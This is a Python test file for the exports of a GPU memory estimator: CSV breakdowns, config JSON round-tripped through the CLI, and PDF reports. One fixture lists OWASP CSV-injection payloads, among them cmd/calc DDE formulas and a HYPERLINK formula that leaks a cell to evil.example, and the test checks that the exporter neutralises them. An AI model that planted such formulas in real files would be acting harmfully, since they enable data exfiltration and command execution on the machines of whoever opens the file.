"""Export builders as plain functions: CSV, the configuration's JSON (through the CLI), PDF."""

from __future__ import annotations

import csv
import dataclasses
import io
import json
import logging
import subprocess
import sys
from pathlib import Path

import pandas as pd
import pytest

from estimator import estimate_config
from estimator.spec.config import SECTIONS
from estimator.spec.wording import verdict_word
from ui import charts, exports, fields, scenarios

ROOT = Path(__file__).resolve().parent.parent
GiB = 1024**3
CONFIGS = {
    "llama-70b-pp": {"model": "llama-3.1-70b", "training": {"seq_len": 8192, "recompute": "selective"},
                     "parallel": {"tp": 8, "pp": 4, "vpp": 5, "dp": 2}},
    "mixtral-ep": {"model": "mixtral-8x7b", "parallel": {"tp": 2, "pp": 2, "dp": 4, "ep": 4, "zero_stage": 1}},
    "custom": {"model": {"hidden_size": 1024, "num_layers": 8, "num_attention_heads": 16, "vocab_size": 32000,
                         "intermediate_size": 4096, "name": "tiny"},
               "training": {"micro_batch_size": 2}, "hardware": {"gpu": "l4"}},
}


@pytest.fixture(scope="module", params=list(CONFIGS))
def case(request):
    config = CONFIGS[request.param]
    return config, estimate_config(config)


def _kind(df: pd.DataFrame, kind: str) -> pd.DataFrame:
    return df[df["kind"] == kind]


def test_csv_columns_and_sums(case):
    _, est = case
    df = pd.read_csv(io.StringIO(exports.breakdown_csv(est)))
    assert list(df.columns[:9]) == ["kind", "stage", "layers", "peak_stage", "peak_phase", "component", "label",
                                    "bytes", "GiB"]
    comps = _kind(df, "component")
    assert sorted(comps["stage"].unique()) == [s.stage for s in est.stages]
    for s in est.stages:
        rows = comps[comps["stage"] == s.stage]
        assert rows["bytes"].sum() == s.device_total_bytes
        tensors = rows[~rows["component"].isin(["communication", "runtime", "fragmentation"])]
        assert tensors["bytes"].sum() == s.allocated_peak_bytes
        assert rows["share_of_device_total"].sum() == pytest.approx(1.0, abs=1e-4)
    assert (comps["GiB"] - comps["bytes"] / GiB).abs().max() < 1e-5
    assert comps[comps["peak_stage"] == True]["stage"].unique().tolist() == [est.peak_stage]  # noqa: E712


def test_csv_has_every_stage_total_and_the_verdict(case):
    _, est = case
    rows = list(csv.DictReader(io.StringIO(exports.breakdown_csv(est))))
    totals = {(int(r["stage"]), r["component"]): int(r["bytes"]) for r in rows if r["kind"] == "stage_total"}
    assert totals == {**{(s.stage, "allocated_peak"): s.allocated_peak_bytes for s in est.stages},
                      **{(s.stage, "device_total"): s.device_total_bytes for s in est.stages}}
    result = {r["component"]: r for r in rows if r["kind"] == "estimate"}
    assert {int(r["stage"]) for r in result.values()} == {est.peak_stage}
    assert int(result["allocated_peak"]["bytes"]) == est.allocated_peak_bytes
    assert int(result["device_total"]["bytes"]) == est.device_total_bytes
    assert int(result["capacity"]["bytes"]) == est.fit.capacity_bytes
    assert result["capacity"]["value"] == est.fit.gpu
    assert result["verdict"]["value"] == est.fit.verdict
    assert float(result["utilization"]["value"]) == pytest.approx(est.fit.utilization, abs=1e-6)


def test_csv_lists_the_configuration_the_estimate_used(case):
    _, est = case
    settings = {r["component"]: r for r in csv.DictReader(io.StringIO(exports.breakdown_csv(est)))
                if r["kind"] == "setting"}
    assert settings["model"]["value"] == est.architecture.name
    expected = {f"{section}.{f.name}" for section, cls in SECTIONS.items() for f in dataclasses.fields(cls)}
    assert set(settings) - {"model"} == expected - {"parallel.world_size"}
    assert settings["training.seq_len"]["value"] == str(est.training.seq_len)
    assert settings["training.seq_len"]["label"] == fields.LABELS["seq_len"]
    assert settings["parallel.tp"]["value"] == str(est.parallel.tp)
    assert settings["parallel.zero_stage"]["value"] == str(est.zero_stage)
    assert settings["training.master_weights"]["value"] == json.dumps(est.recipe.master_weights)
    assert settings["hardware.gpu"]["value"] == est.hardware.gpu
    # pandas still reads it: the settings do not shift the numeric columns
    df = pd.read_csv(io.StringIO(exports.breakdown_csv(est)), dtype={"stage": "Int64", "bytes": "Int64"})
    assert _kind(df, "component")["bytes"].sum() == sum(s.device_total_bytes for s in est.stages)


def test_compare_csv_has_every_scenario(case):
    config, est = case
    text = exports.compare_csv([("a", est), ("b", est)])
    df = pd.read_csv(io.StringIO(text))
    assert df["scenario"].unique().tolist() == ["a", "b"]
    comps = _kind(df, "component")
    assert comps[comps["scenario"] == "a"]["bytes"].sum() == sum(s.device_total_bytes for s in est.stages)


# OWASP "CSV Injection" payloads: each starts a formula in Excel, LibreOffice or Google Sheets
OWASP_PAYLOADS = ["=1+2", "+1+2", "-1+2", "@SUM(1+1)*cmd|' /C calc'!A0", "\t=1+2", "\r=1+2",
                  '=HYPERLINK("http://evil.example/?leak="&A1,"click")', "=cmd|' /C calc'!A0", "-2+3+cmd|' /C calc'!E2"]


@pytest.fixture(scope="module")
def hostile_estimates():
    """Each payload as a scenario name and, where the estimator accepts it (no control
    characters), as the custom model's name too: an uploaded file sets both."""
    def named(p):
        name = p if p.isprintable() else "tiny"
        return estimate_config({"model": {**CONFIGS["custom"]["model"], "name": name}})
    return [(p, named(p)) for p in OWASP_PAYLOADS]


def test_csv_formula_injection_is_neutralised(hostile_estimates):
    rows = list(csv.DictReader(io.StringIO(exports.compare_csv(hostile_estimates))))
    assert [r["scenario"] for r in rows if r["component"] == "model"] == ["'" + p for p in OWASP_PAYLOADS]
    assert [r["value"] for r in rows if r["component"] == "model"] == \
        ["'" + p if p.isprintable() else "tiny" for p in OWASP_PAYLOADS]
    assert not [cell for r in rows for cell in r.values() if cell and cell[0] in "=+-@\t\r"]
    # numbers stay numbers: no quote is put before the byte counts
    assert all(r["bytes"].isdigit() for r in rows if r["kind"] == "component")
    single = list(csv.DictReader(io.StringIO(exports.breakdown_csv(hostile_estimates[0][1]))))
    assert single[0]["component"] == "model" and single[0]["value"] == "'=1+2"


def test_csv_keeps_a_negative_number_a_number():
    # every number of a real estimate is positive, so the neutraliser is checked on a cell directly
    assert exports._neutralise(-3) == -3 and exports._neutralise(-0.5) == -0.5
    assert exports._neutralise("-3") == "'-3"


def _cli_estimate(path) -> dict:
    """`python -m estimator estimate --config PATH --json`, which must succeed."""
    out = subprocess.run([sys.executable, "-m", "estimator", "estimate", "--config", str(path), "--json"],
                         capture_output=True, text=True, cwd=ROOT, timeout=120)
    assert out.returncode == 0, out.stderr
    return json.loads(out.stdout)


def test_config_json_round_trip_through_the_cli(case, tmp_path):
    config, est = case
    path = tmp_path / "config.json"
    path.write_text(exports.config_json(config, est))
    cli = _cli_estimate(path)
    assert cli["device_total_bytes"] == est.device_total_bytes
    assert cli["allocated_peak_bytes"] == est.allocated_peak_bytes
    assert cli["fit"]["verdict"] == est.fit.verdict
    # and the app reads the same file back into the same widget values
    back = json.loads(path.read_text())
    values = fields.ui_values_from_config(back)
    model = fields.ModelChoice(source="preset", preset=back["model"]) if isinstance(back["model"], str) else \
        fields.ModelChoice(source="custom", arch=fields.canonical_arch(back["model"]))
    assert estimate_config(fields.config_dict(model, values)).device_total_bytes == est.device_total_bytes


# a spread of frameworks and layouts whose defaults the JSON export must resolve
RESOLVE_CASES = {
    "megatron-pp-vpp": {"model": "llama-3.1-8b", "training": {"recompute": "selective"},
                        "parallel": {"tp": 2, "pp": 4, "vpp": 2, "dp": 2}},
    "moe-ep": {"model": "mixtral-8x7b", "parallel": {"tp": 2, "pp": 2, "dp": 4, "ep": 4},
               "training": {"global_batch_size": 32}},
    "fsdp2": {"model": "llama-3.1-8b", "training": {"framework": "fsdp2"}, "parallel": {"dp": 8}},
    "fsdp2-fp32": {"model": "llama-3.1-8b", "training": {"framework": "fsdp2", "param_dtype": "fp32",
                                                         "master_weights": False}, "parallel": {"dp": 4}},
    "deepspeed": {"model": "llama-3.1-8b", "training": {"framework": "deepspeed", "micro_batch_size": 2},
                  "parallel": {"dp": 4, "zero_stage": 2}},
    "hf": {"model": "llama-3.1-8b", "training": {"framework": "hf", "param_dtype": "fp32"}},
    "inference": {"model": "llama-3.1-8b", "training": {"mode": "inference", "micro_batch_size": 8,
                                                        "param_dtype": "fp8"}, "parallel": {"tp": 2}},
}


def _stage_totals(est) -> list[tuple[int, int]]:
    return [(s.allocated_peak_bytes, s.device_total_bytes) for s in est.stages]


@pytest.mark.parametrize("name", list(RESOLVE_CASES))
def test_config_json_writes_every_field_as_used(name):
    config = RESOLVE_CASES[name]
    est = estimate_config(config)
    out = json.loads(exports.config_json(config, est))
    assert out["model"] == config["model"]
    # the fields that follow TP are left to follow it (issue 26: a dense model's ETP blocked a later TP change)
    following = {"etp", "sequence_parallel"}
    for section, cls in SECTIONS.items():
        left_out = {"world_size"} | (following if section == "parallel" else set())
        assert set(out[section]) == {f.name for f in dataclasses.fields(cls)} - left_out, section
    tr, par = out["training"], out["parallel"]
    assert tr["global_batch_size"] == est.microbatches * est.training.micro_batch_size * est.parallel.dp
    assert (tr["grad_dtype"], tr["master_weights"], tr["optimizer_dtype"]) == \
        (est.recipe.grad_dtype, est.recipe.master_weights, est.recipe.optimizer_dtype)
    assert par["zero_stage"] == est.zero_stage
    assert (est.parallel.etp, est.parallel.sequence_parallel) == (est.parallel.tp, est.parallel.tp > 1)
    # estimating the export gives the same stages, byte for byte
    assert _stage_totals(estimate_config(out)) == _stage_totals(est)


def test_config_json_resolves_the_framework_defaults():
    fsdp2 = json.loads(exports.config_json(RESOLVE_CASES["fsdp2"], estimate_config(RESOLVE_CASES["fsdp2"])))
    assert fsdp2["parallel"]["zero_stage"] == 3  # fully_shard
    assert fsdp2["training"]["master_weights"] is True and fsdp2["training"]["optimizer_dtype"] == "fp32"
    hf = json.loads(exports.config_json(RESOLVE_CASES["hf"], estimate_config(RESOLVE_CASES["hf"])))
    assert (hf["training"]["grad_dtype"], hf["training"]["master_weights"], hf["training"]["optimizer_dtype"]) == \
        ("fp32", False, "fp32")
    pp_est = estimate_config(RESOLVE_CASES["megatron-pp-vpp"])
    pp = json.loads(exports.config_json(RESOLVE_CASES["megatron-pp-vpp"], pp_est))
    # no default left for a later release to reinterpret: the batch the estimate used is written out
    assert pp["training"]["global_batch_size"] == pp_est.microbatches * 2
    assert "sequence_parallel" not in pp["parallel"] and "etp" not in pp["parallel"]  # they follow TP 2
    dense = json.loads(exports.config_json({"model": "llama-3.1-8b"}, pp_est))
    assert estimate_config({**dense, "parallel": {**dense["parallel"], "tp": 1, "dp": 4}}).parallel.etp == 1
    own = {"model": "mixtral-8x7b", "parallel": {"tp": 2, "ep": 2, "etp": 1, "sequence_parallel": True}}
    moe = json.loads(exports.config_json(own, estimate_config(own)))
    assert moe["parallel"]["etp"] == 1 and "sequence_parallel" not in moe["parallel"]  # ETP 1 is the user's own
    inf = json.loads(exports.config_json(RESOLVE_CASES["inference"], estimate_config(RESOLVE_CASES["inference"])))
    assert (inf["training"]["kv_cache_tokens"], inf["training"]["kv_cache_dtype"]) == (4096, "fp8")


def test_resolved_config_json_runs_in_the_cli(tmp_path):
    config = RESOLVE_CASES["moe-ep"]
    est = estimate_config(config)
    path = tmp_path / "config.json"
    path.write_text(exports.config_json(config, est))
    cli = _cli_estimate(path)
    assert [(s["allocated_peak_bytes"], s["device_total_bytes"]) for s in cli["stages"]] == _stage_totals(est)


def _pdf_text(data: bytes) -> str:
    from pypdf import PdfReader

    return "\n".join(page.extract_text() or "" for page in PdfReader(io.BytesIO(data)).pages)


def test_pdf_report_contains_the_totals(case):
    pytest.importorskip("fpdf")
    pytest.importorskip("pypdf")
    config, est = case
    png = exports.chart_png(charts.stage_chart(est, est.fit.capacity_bytes))
    data = exports.report_pdf(est, config, title="GPU memory estimate — test ≈ Δ", chart=png)
    assert data.startswith(b"%PDF")
    text = _pdf_text(data)
    assert f"{est.device_total_bytes / GiB:,.2f} GiB" in text
    assert f"{est.allocated_peak_bytes / GiB:,.2f} GiB" in text
    assert f"{est.parameters_total:,}" in text
    assert "≈ Δ" in text and "1024³" in text  # Unicode survives (bundled DejaVu Sans)
    peak = est.stages[est.peak_stage]
    assert peak.components[0].formula.split()[0] in text
    fits = text[text.index("Fit on every GPU"):]
    for f in est.fits():
        row = fits[fits.index("\n" + f.gpu + "\n" if "\n" + f.gpu + "\n" in fits else "\n" + f.gpu + " "):][:160]
        assert f"{f.utilization:.0%}" in row and verdict_word(f.verdict) in row


def test_pdf_without_a_chart_still_renders(case):
    pytest.importorskip("fpdf")
    config, est = case
    assert exports.report_pdf(est, config, chart=None).startswith(b"%PDF")


def test_chart_png_is_a_png(case):
    pytest.importorskip("vl_convert")
    _, est = case
    png = exports.chart_png(charts.stage_chart(est, est.fit.capacity_bytes))
    assert png[:8] == b"\x89PNG\r\n\x1a\n"


def test_compare_pdf_contains_every_scenario():
    pytest.importorskip("fpdf")
    triples = [(name, cfg, estimate_config(cfg)) for name, cfg in CONFIGS.items()]
    png = exports.chart_png(charts.compare_chart([(n, e) for n, _, e in triples]))
    text = _pdf_text(exports.compare_pdf(triples, chart=png))
    for name, _, est in triples:
        assert name in text
        assert f"{est.device_total_bytes / GiB:,.2f} GiB" in text


def test_scenarios_json_round_trip():
    entries = [scenarios.new_entry(name, cfg) for name, cfg in CONFIGS.items()]
    back = scenarios.parse(scenarios.dump(entries, "scenarios"), "scenarios")
    assert [(e["name"], e["config"]) for e in back] == [(e["name"], e["config"]) for e in entries]
    single = scenarios.parse(json.dumps(CONFIGS["mixtral-ep"]), "scenarios")
    assert single[0]["config"] == CONFIGS["mixtral-ep"]
    with pytest.raises(fields.ConfigError):
        scenarios.parse('{"scenarios": [{"name": "x", "config": {"model": "llama-3.1-8b", "training": {"lr": 1}}}]}',
                        "scenarios")
    with pytest.raises(fields.ConfigError):
        scenarios.parse("not json", "scenarios")


def test_settings_diff_lists_only_what_differs():
    entries = [scenarios.new_entry("a", CONFIGS["llama-70b-pp"]),
               scenarios.new_entry("b", {**CONFIGS["llama-70b-pp"], "parallel": {"tp": 4, "pp": 4, "vpp": 5,
                                                                                  "dp": 2}})]
    diff = scenarios.settings_diff(entries)
    assert list(diff.index) == ["Tensor parallel (TP)"]
    assert diff.loc["Tensor parallel (TP)"].tolist() == ["8", "4"]


LONG_NAME = "Scenario-" + "0123456789" * 1000  # 10,009 characters, no space to wrap at
ODD_NAME = "Scenario 😀 Жук 🚀 漢字 かな\x00\x07\x1b\ttab\r\nnewline \u200b\ud800 end"


def _read_pdf(data: bytes) -> str:
    pytest.importorskip("pypdf")
    assert data.startswith(b"%PDF")
    return _pdf_text(data)


def _squashed(text: str) -> str:
    # pypdf puts a line break wherever a cell wrapped
    return text.replace("\n", "")


@pytest.mark.parametrize("name", [LONG_NAME, ODD_NAME], ids=["10000-chars", "unicode-control"])
def test_pdfs_render_any_name(name, caplog):
    pytest.importorskip("fpdf")
    config, est = CONFIGS["custom"], estimate_config(CONFIGS["custom"])
    with caplog.at_level(logging.WARNING, logger="fpdf"):
        report = _read_pdf(exports.report_pdf(est, {**config, "model": name}, title=name))
        compare = _read_pdf(exports.compare_pdf([(name, config, est), (name + " 2", config, est)], title=name))
    # no glyph the font lacks reaches fpdf2 (it would draw nothing and log a warning)
    assert not [r.message for r in caplog.records if "missing" in r.message]
    for text in (report, compare):
        assert "Scenario" in text
        assert f"{est.device_total_bytes / GiB:,.2f} GiB" in text
    if name is LONG_NAME:
        for text in (report, compare):
            assert LONG_NAME[:150] in _squashed(text) and LONG_NAME[:400] not in _squashed(text)
            assert "…" in text
    else:
        # what DejaVu Sans draws survives; emoji and CJK it lacks, and control characters, show as U+FFFD
        assert "Scenario 😀 Жук \ufffd \ufffd\ufffd" in report and "end" in report


def test_pdf_inputs_show_labelled_settings_by_section():
    pytest.importorskip("fpdf")
    config = {"model": "llama-3.1-70b",
              "training": {"recompute": "selective", "recompute_modules": ["core_attn", "mlp"],
                           "global_batch_size": None, "seq_len": 8192},
              "parallel": {"tp": 8, "pp": 4, "sequence_parallel": True, "dp": 2},
              "hardware": {"gpu": "h100-80", "expandable_segments": False}}
    text = _read_pdf(exports.report_pdf(estimate_config(config), config))
    inputs = text[text.index("Inputs"):text.index("Totals")]
    for line in ("Activation recomputation: selective", "Recomputed modules (selective): core_attn, mlp",
                 "Global batch size: auto", "Sequence length (tokens): 8192", "Tensor parallel (TP): 8",
                 "Sequence parallelism: yes", "GPU: h100-80", "Expandable segments: no"):
        assert line in inputs, line
    assert "training.recompute" not in inputs and '"selective"' not in inputs
    # grouped: the section titles come in order, each before its settings
    order = [inputs.index(t) for t in ("Training", "Activation recomputation", "Parallel layout",
                                        "Tensor parallel (TP): 8", "Hardware", "Expandable segments")]
    assert order == sorted(order)


def test_offloaded_states_are_exported_as_host_and_nvme_rows():
    """ZeRO-3 with the optimizer on the host and the parameters on NVMe: the CSV lists each offloaded
    state with its bytes beside the GPU's components, and the PDF has a host-memory table."""
    import csv as _csv
    import io as _io

    from pypdf import PdfReader

    from estimator import load_config, estimate as _estimate
    from ui.exports import breakdown_csv, report_pdf

    config = {"model": "llama-3.2-1b", "training": {"framework": "deepspeed", "offload_optimizer": "cpu",
                                                    "offload_parameters": "nvme"},
              "parallel": {"dp": 8, "zero_stage": 3}}
    cfg = load_config(config)
    est = _estimate(cfg.architecture, cfg.training, cfg.parallel, cfg.hardware)
    rows = list(_csv.DictReader(_io.StringIO(breakdown_csv(est))))
    host = {r["label"]: int(r["bytes"]) for r in rows if r["kind"] == "host"}
    nvme = {r["label"]: int(r["bytes"]) for r in rows if r["kind"] == "nvme"}
    n = 1_235_814_400 / 8
    assert host == {"fp32 master weights": round(4 * n), "Optimizer states": round(8 * n),
                    "fp32 gradient partition": round(4 * n), "Pinned NVMe swap buffers (parameters)": 5 * 10**8 * 2,
                    # DeepSpeed v0.19.5 stage3.py __init__: the bf16 gradient partitions on the CPU under offload
                    "Gradient partitions (grad_partitions_flat_buffer)": round(2 * n)}
    assert nvme == {"Parameters": round(2 * n)}
    text = "".join(page.extract_text() for page in PdfReader(_io.BytesIO(report_pdf(est, config))).pages)
    assert "Host memory and NVMe per GPU process" in text
